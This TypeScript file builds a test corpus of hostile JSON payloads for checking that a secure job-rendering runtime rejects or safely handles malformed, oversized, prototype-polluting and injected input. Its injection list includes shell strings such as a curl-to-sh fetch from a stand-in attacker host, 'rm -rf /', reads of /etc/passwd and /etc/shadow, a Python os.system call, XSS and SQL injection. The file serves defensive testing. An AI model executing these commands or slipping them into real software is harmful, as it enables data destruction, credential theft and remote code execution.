/**
 * Payloads built to break a Secure Runtime: malformed and oversized bodies, deep nesting, prototype keys,
 * injection strings aimed at JSON, FLARE variable substitution and shells, deceptive Unicode, numbers that do not
 * survive a double, long strings, and values of the wrong type, aimed at each field of a sample payload.
 *
 * Each entry says what a safe runtime must do with it (`expect`): reject it as malformed, too large or invalid, or
 * (`"reject-or-safe"`) either reject it or render a job where each of its `markers` appears only as a whole JSON
 * string. The conformance kit runs the corpus; the app's tests reuse it against the HTTP endpoint.
 *
 * @since 0.1.0
 */
import { defaultLimits, type JsonRecord, type Limits } from "./JsonBody.js"

/**
 * @since 0.1.0
 * @category models
 */
export type Category =
  | "malformed"
  | "oversized"
  | "deep"
  | "prototype"
  | "duplicate-key"
  | "root"
  | "unknown-field"
  | "missing-field"
  | "injection"
  | "unicode"
  | "number"
  | "long-string"
  | "type-confusion"

/**
 * What a safe runtime does with an entry: reject it with that rejection class, reject it in any way (`"reject"`), or
 * either reject it or render it safely (`"reject-or-safe"`).
 *
 * @since 0.1.0
 * @category models
 */
export type Expectation = "MalformedJson" | "PayloadTooLarge" | "InvalidPayload" | "reject" | "reject-or-safe"

/**
 * @since 0.1.0
 * @category models
 */
export interface Entry {
  /** Stable and unique: `category/name` or `category/field/name`. */
  readonly id: string
  readonly category: Category
  readonly body: string
  readonly expect: Expectation
  /** The hostile strings in the body, to trace through a render when the runtime accepts it. */
  readonly markers: ReadonlyArray<string>
}

/**
 * The payload of the platform contract's example (`optimizer_name`, `learning_rate`, `num_federation_rounds`), the
 * default sample.
 *
 * @since 0.1.0
 * @category constants
 */
export const contractSample: JsonRecord = { optimizer_name: "adam", learning_rate: 0.01, num_federation_rounds: 10 }

interface HostileValue {
  readonly name: string
  readonly category: Category
  /** JSON text of the value. */
  readonly json: string
  readonly markers: ReadonlyArray<string>
}

const text = (category: Category, name: string, value: string): HostileValue => ({
  name,
  category,
  json: JSON.stringify(value),
  markers: [value]
})

const raw = (category: Category, name: string, json: string): HostileValue => ({ name, category, json, markers: [] })

const INJECTION: ReadonlyArray<readonly [string, string]> = [
  ["json-breakout", "\"}, {\"path\": \"os.system\""],
  [
    "json-breakout-component",
    "\"}, {\"id\": \"x\", \"path\": \"os.system\", \"args\": {\"command\": \"id\"}}, {\"a\": \""
  ],
  ["json-breakout-key", "\", \"path\": \"os.system"],
  ["json-breakout-number", "0.01, \"num_rounds\": 1000000"],
  ["json-close-object", "}"],
  ["json-open-object", "{"],
  ["json-quote", "\""],
  ["json-backslash", "\\"],
  ["json-text", "{\"format_version\": 2, \"workflows\": []}"],
  ["flare-site-name", "{SITE_NAME}"],
  ["flare-workspace", "{WORKSPACE}"],
  ["flare-job-id", "{JOB_ID}"],
  ["flare-root-url", "{ROOT_URL}"],
  ["flare-custom-dir", "{JOB_CUSTOM_DIR}"],
  ["flare-env-home", "{$HOME}"],
  ["flare-env-token", "{$APH_DAL_TOKEN}"],
  ["flare-config-var", "{format_version}"],
  ["flare-def", "{@def:x=1}"],
  ["flare-secret-env", "${secret:APH_DAL_TOKEN}"],
  ["flare-secret-file", "${secret:file:/etc/passwd}"],
  ["flare-embedded-var", "adam-{SITE_NAME}"],
  ["python-format", "{0.__class__.__mro__}"],
  ["percent-format", "%s%s%s%n"],
  ["template-expression", "{{7*7}}"],
  ["shell-subst", "$(rm -rf /)"],
  ["shell-backtick", "`id`"],
  ["shell-semicolon", "; rm -rf / #"],
  ["shell-pipe", "| cat /etc/passwd"],
  ["shell-and", "&& curl http://attacker.invalid/x | sh"],
  ["shell-redirect", "> /tmp/pwned"],
  ["shell-glob", "*"],
  ["shell-env", "$HOME"],
  ["cli-option", "--config=/etc/shadow"],
  ["cli-newline-option", "adam\n--help"],
  ["path-traversal", "../../../../etc/passwd"],
  ["absolute-path", "/etc/passwd"],
  ["file-url", "file:///etc/passwd"],
  ["class-path", "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor"],
  ["os-system", "os.system"],
  ["python-import", "__import__('os').system('id')"],
  ["deploy-all", "@ALL"],
  ["site-server", "server"],
  ["html", "<script>alert(1)</script>"],
  ["sql", "' OR '1'='1"],
  ["yaml", "a: b\n- c"],
  ["empty", ""],
  ["space", " "]
]

const UNICODE: ReadonlyArray<readonly [string, string]> = [
  ["rtl-override-suffix", "adam\u202e"],
  ["rtl-override-prefix", "\u202emada"],
  ["rtl-isolate", "\u2067adam\u2069"],
  ["nul-suffix", "adam\u0000"],
  ["nul", "\u0000"],
  ["lone-high-surrogate", "\ud800"],
  ["lone-low-surrogate", "\udc00"],
  ["reversed-surrogates", "\udc00\ud800"],
  ["surrogate-in-word", "ad\ud83dam"],
  ["homoglyph-cyrillic-a", "\u0430dam"],
  ["homoglyph-cyrillic-dze", "\u0455gd"],
  ["fullwidth", "\uff41\uff44\uff41\uff4d"],
  ["zero-width-space", "ad\u200bam"],
  ["zero-width-joiner", "ad\u200dam"],
  ["byte-order-mark", "\ufeffadam"],
  ["combining-accent", "adam\u0301"],
  ["upper-case", "ADAM"],
  ["title-case", "Adam"],
  ["trailing-space", "adam "],
  ["leading-space", " adam"],
  ["non-breaking-space", "adam\u00a0"],
  ["line-separator", "adam\u2028"],
  ["paragraph-separator", "adam\u2029"],
  ["newline", "adam\n"],
  ["carriage-return", "adam\r"],
  ["tab", "adam\t"],
  ["ansi-escape", "\u001b[31madam\u001b[0m"],
  ["backspace", "adam\b\b\b\bsgd"],
  ["delete", "adam\u007f"],
  ["c1-control", "adam\u0085"],
  ["tag-characters", "adam\u{e0061}\u{e0064}"],
  ["emoji", "\u{1f525}"],
  ["private-use", "\ue000"],
  ["noncharacter", "\uffff"],
  ["replacement-character", "\ufffd"],
  ["combining-flood", "a" + "\u0301".repeat(500)]
]

const NUMBERS: ReadonlyArray<readonly [string, string]> = [
  ["overflow", "1e309"],
  ["negative-overflow", "-1e309"],
  ["huge-exponent", "1e999999"],
  ["max-double", "1.7976931348623157e308"],
  ["underflow", "1e-400"],
  ["subnormal-underflow", "1e-324"],
  ["min-subnormal", "5e-324"],
  ["negative-zero", "-0"],
  ["negative-zero-float", "-0.0"],
  ["zero", "0"],
  ["zero-float", "0.0"],
  ["negative", "-1"],
  ["unsafe-integer", "9007199254740993"],
  ["negative-unsafe-integer", "-9007199254740993"],
  ["max-safe-integer", "9007199254740991"],
  ["long-integer", "123456789012345678901234567890"],
  ["int32-overflow", "2147483648"],
  ["uint32-overflow", "4294967296"],
  ["int32-underflow", "-2147483649"],
  ["big-float", "1e21"],
  ["fraction", "1.5"],
  ["whole-float", "10.0"],
  ["exponent-upper", "1E2"],
  ["tiny", "1e-7"],
  ["long-fraction", "0." + "1".repeat(400)]
]

const TYPE_CONFUSION: ReadonlyArray<readonly [string, string]> = [
  ["null", "null"],
  ["true", "true"],
  ["false", "false"],
  ["numeric-string", "\"10\""],
  ["float-string", "\"0.01\""],
  ["nan-string", "\"NaN\""],
  ["infinity-string", "\"Infinity\""],
  ["overflow-string", "\"1e309\""],
  ["empty-array", "[]"],
  ["array-of-number", "[1]"],
  ["array-of-string", "[\"adam\"]"],
  ["array-of-object", "[{}]"],
  ["empty-object", "{}"],
  ["component-object", "{\"path\": \"os.system\", \"args\": {}}"],
  ["ref-object", "{\"$ref\": \"#\"}"],
  ["nested-arrays", "[[[[]]]]"],
  ["object-with-value", "{\"value\": \"adam\"}"],
  ["array-of-nulls", "[null, null]"]
]

const valuesFor = (): ReadonlyArray<HostileValue> => [
  ...INJECTION.map(([name, value]) => text("injection", name, value)),
  ...UNICODE.map(([name, value]) => text("unicode", name, value)),
  ...NUMBERS.map(([name, json]) => raw("number", name, json)),
  ...TYPE_CONFUSION.map(([name, json]) => raw("type-confusion", name, json)),
  text("long-string", "10k", "a".repeat(10_000)),
  text("long-string", "100k", "x".repeat(100_000)),
  text("long-string", "quarter-limit", "adam".repeat(64 * 1024)),
  text("long-string", "rtl-flood", "\u202e".repeat(5_000)),
  text("long-string", "braces", "{SITE_NAME}".repeat(2_000))
]

/** JSON text of an object whose fields are given as already-serialized values, in order. */
const objectText = (fields: ReadonlyArray<readonly [string, string]>): string =>
  `{${fields.map(([key, json]) => `${JSON.stringify(key)}: ${json}`).join(", ")}}`

const nested = (depth: number, open: string, close: string, inner: string): string =>
  open.repeat(depth) + inner + close.repeat(depth)

/**
 * The corpus aimed at `sample` (a valid payload; default {@link contractSample}). Oversized and deep bodies are
 * sized from `limits` (default 1 MiB and 32 levels), so they sit just past the limits the runtime enforces.
 *
 * @since 0.1.0
 * @category constructors
 */
// eslint-disable-next-line max-lines-per-function -- the corpus is one list of entries, read top to bottom
export const make = (
  sample: JsonRecord = contractSample,
  options: { readonly limits?: Limits } = {}
): ReadonlyArray<Entry> => {
  const limits = options.limits ?? defaultLimits
  const fields: ReadonlyArray<readonly [string, string]> = Object.keys(sample).map((key) => [
    key,
    JSON.stringify(sample[key])
  ])
  const sampleText = objectText(fields)
  const with_ = (extra: ReadonlyArray<readonly [string, string]>) => objectText([...fields, ...extra])
  const firstField = fields[0]?.[0] ?? "field"
  const entries: Array<Entry> = []
  const add = (
    category: Category,
    name: string,
    body: string,
    expect: Expectation,
    markers: ReadonlyArray<string> = []
  ) => entries.push({ id: `${category}/${name}`, category, body, expect, markers })

  const malformed: ReadonlyArray<readonly [string, string]> = [
    ["empty", ""],
    ["whitespace", " \n\t "],
    ["open-brace", "{"],
    ["close-brace", "}"],
    ["truncated", sampleText.slice(0, Math.max(1, sampleText.length - 3))],
    ["missing-value", "{\"a\": }"],
    ["missing-colon", "{\"a\" 1}"],
    ["single-quotes", "{'a': 1}"],
    ["unquoted-key", "{a: 1}"],
    ["trailing-comma-object", sampleText.replace(/}$/, ",}")],
    ["trailing-comma-array", `{${JSON.stringify(firstField)}: [1,]}`],
    ["nan", `{${JSON.stringify(firstField)}: NaN}`],
    ["infinity", `{${JSON.stringify(firstField)}: Infinity}`],
    ["negative-infinity", `{${JSON.stringify(firstField)}: -Infinity}`],
    ["undefined", `{${JSON.stringify(firstField)}: undefined}`],
    ["hex-number", "{\"a\": 0x10}"],
    ["plus-sign", "{\"a\": +1}"],
    ["leading-dot", "{\"a\": .5}"],
    ["trailing-dot", "{\"a\": 1.}"],
    ["leading-zero", "{\"a\": 01}"],
    ["bare-exponent", "{\"a\": 1e}"],
    ["unterminated-string", "{\"a\": \"unterminated}"],
    ["bad-escape", "{\"a\": \"bad \\q escape\"}"],
    ["short-unicode-escape", "{\"a\": \"\\u12\"}"],
    ["raw-newline-in-string", "{\"a\": \"line\nbreak\"}"],
    ["raw-nul-in-string", "{\"a\": \"nul\u0000\"}"],
    ["raw-nul-after", `${sampleText}\u0000`],
    ["trailing-content", `${sampleText} trailing`],
    ["two-objects", `${sampleText}${sampleText}`],
    ["byte-order-mark", `\ufeff${sampleText}`],
    ["line-comment", `${sampleText} // comment`],
    ["block-comment", `/* comment */ ${sampleText}`],
    ["python-true", "{\"a\": True}"],
    ["python-none", "{\"a\": None}"],
    ["misspelled-true", "{\"a\": tru}"],
    ["misspelled-null", "{\"a\": nul}"],
    ["xml", "<payload/>"],
    ["form-encoded", "optimizer_name=adam&learning_rate=0.01"],
    ["non-breaking-space", `\u00a0${sampleText}`],
    ["unclosed-array", `{"a": [1, 2`],
    ["missing-comma", "{\"a\": 1 \"b\": 2}"],
    ["double-comma", "{\"a\": 1,, \"b\": 2}"]
  ]
  for (const [name, body] of malformed) add("malformed", name, body, "MalformedJson")

  const max = limits.maxBytes
  const pad = (body: string, bytes: number) =>
    body.replace(/}$/, `${" ".repeat(Math.max(0, bytes - Buffer.byteLength(body)))}}`)
  add("oversized", "whitespace-padding", pad(sampleText, max + 1), "PayloadTooLarge")
  add("oversized", "long-value", with_([["padding", JSON.stringify("a".repeat(max))]]), "PayloadTooLarge")
  add(
    "oversized",
    "two-byte-characters",
    with_([["padding", JSON.stringify("\u00e9".repeat(Math.floor(max / 2) + 1))]]),
    "PayloadTooLarge"
  )
  add(
    "oversized",
    "four-byte-characters",
    with_([["padding", JSON.stringify("\u{1f525}".repeat(Math.floor(max / 4) + 1))]]),
    "PayloadTooLarge"
  )

  add("deep", "just-past-limit", with_([["deep", nested(limits.maxDepth, "[", "]", "1")]]), "reject")
  add("deep", "objects-past-limit", with_([["deep", nested(limits.maxDepth, "{\"a\": ", "}", "1")]]), "reject")
  add("deep", "arrays-10000", with_([["deep", nested(10_000, "[", "]", "")]]), "reject")
  add("deep", "unclosed-100000", "[".repeat(100_000), "reject")
  add(
    "deep",
    "field-value",
    objectText(fields.map(([key, json]) => [key, key === firstField ? nested(5_000, "[", "]", json) : json])),
    "reject"
  )

  add("prototype", "proto-root", "{\"__proto__\": {\"polluted\": true}}", "InvalidPayload")
  add("prototype", "proto-field", with_([["__proto__", "{\"isAdmin\": true}"]]), "InvalidPayload")
  add(
    "prototype",
    "constructor-prototype",
    with_([["constructor", "{\"prototype\": {\"polluted\": true}}"]]),
    "InvalidPayload"
  )
  add("prototype", "prototype-field", with_([["prototype", "1"]]), "InvalidPayload")
  add(
    "prototype",
    "escaped-proto",
    sampleText.replace(/}$/, ", \"__pro\\u0074o__\": {\"polluted\": true}}"),
    "InvalidPayload"
  )
  add(
    "prototype",
    "proto-in-value",
    objectText(fields.map(([key, json]) => [key, key === firstField ? "{\"__proto__\": {\"x\": 1}}" : json])),
    "InvalidPayload"
  )
  add(
    "prototype",
    "proto-in-array",
    objectText(fields.map(([key, json]) => [key, key === firstField ? "[{\"__proto__\": 1}]" : json])),
    "InvalidPayload"
  )
  add(
    "prototype",
    "constructor-in-value",
    objectText(
      fields.map(([key, json]) => [key, key === firstField ? "{\"constructor\": {\"prototype\": {}}}" : json])
    ),
    "InvalidPayload"
  )

  const breakout = "\"}, {\"path\": \"os.system\""
  add("duplicate-key", "override-first", with_([[firstField, JSON.stringify(breakout)]]), "InvalidPayload", [breakout])
  add("duplicate-key", "repeat-same", with_([[firstField, fields[0]?.[1] ?? "1"]]), "InvalidPayload")

  const roots: ReadonlyArray<readonly [string, string]> = [
    ["empty-array", "[]"],
    ["array-of-sample", `[${sampleText}]`],
    ["null", "null"],
    ["true", "true"],
    ["number", "0"],
    ["string", "\"adam\""],
    ["json-in-string", JSON.stringify(sampleText)]
  ]
  for (const [name, body] of roots) add("root", name, body, "InvalidPayload")

  const unknown: ReadonlyArray<readonly [string, ReadonlyArray<readonly [string, string]>, ReadonlyArray<string>]> = [
    ["extra-number", [["extra", "1"]], []],
    ["class-path", [["path", JSON.stringify("os.system")]], ["os.system"]],
    ["format-version", [["format_version", "3"]], []],
    ["empty-key", [["", "\"\""]], []],
    ["rtl-key", [["\u202eevil", "1"]], []],
    ["case-variant", [[firstField.toUpperCase(), fields[0]?.[1] ?? "1"]], []],
    ["trailing-space-key", [[`${firstField} `, fields[0]?.[1] ?? "1"]], []],
    ["many-extras", Array.from({ length: 200 }, (_, index) => [`extra_${index}`, String(index)] as const), []]
  ]
  for (const [name, extra, markers] of unknown) add("unknown-field", name, with_(extra), "reject-or-safe", markers)

  const values = valuesFor()
  for (const [field] of fields) {
    add("missing-field", field, objectText(fields.filter(([key]) => key !== field)), "reject-or-safe")
    for (const value of values) {
      entries.push({
        id: `${value.category}/${field}/${value.name}`,
        category: value.category,
        body: objectText(fields.map(([key, json]) => [key, key === field ? value.json : json])),
        expect: "reject-or-safe",
        markers: value.markers
      })
    }
  }
  return entries
}
